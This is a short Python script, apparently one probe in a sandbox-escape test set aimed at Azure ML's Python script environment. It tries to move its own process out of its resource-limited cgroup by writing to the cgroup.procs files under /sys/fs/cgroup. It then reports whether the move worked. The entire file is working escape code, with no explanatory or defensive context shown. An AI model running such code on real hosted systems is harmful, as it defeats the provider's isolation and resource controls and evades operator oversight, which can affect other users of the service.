"""Moves itself to the group of processes that has no limits."""

import glob
import os

from attack import attack, every


def leave(path):
    with open("/proc/self/cgroup") as stream:
        before = stream.read()
    with open(path, "w") as stream:
        stream.write("0\n")
    with open("/proc/self/cgroup") as stream:
        return f"moved by {path}" if stream.read() != before or os.access(path, os.W_OK) else ""


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(leave, [*glob.glob("/sys/fs/cgroup/cgroup.procs"), *glob.glob("/sys/fs/cgroup/*/cgroup.procs")])
